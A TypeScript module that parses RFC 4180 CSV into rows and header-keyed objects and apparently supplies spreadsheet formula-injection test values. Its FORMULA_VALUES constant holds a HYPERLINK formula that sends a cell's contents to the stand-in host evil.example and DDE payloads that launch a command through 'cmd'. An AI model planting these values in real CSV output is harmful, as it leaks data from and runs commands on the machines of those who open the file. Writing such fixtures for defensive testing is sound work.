/** A CSV text (RFC 4180: quoted fields may hold commas, quotes doubled, CRLF records) as rows of fields. */
export function csvRecords(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

/** The records as objects keyed by the header row. */
export function csvObjects(text: string): Array<Record<string, string>> {
  const [header = [], ...rows] = csvRecords(text);
  return rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i] ?? ''])));
}

/** Values a spreadsheet would run as formulas, in the CSV input that carries them (quoted where needed). */
export const FORMULA_VALUES = ['=HYPERLINK("http://evil.example/?"&B3,"x")', "+cmd|' /C calc'!A0", '@SUM(1+1)', "-2+3+cmd|' /C calc'!A0"];
export const quotedCsv = (value: string) => `"${value.replace(/"/g, '""')}"`;
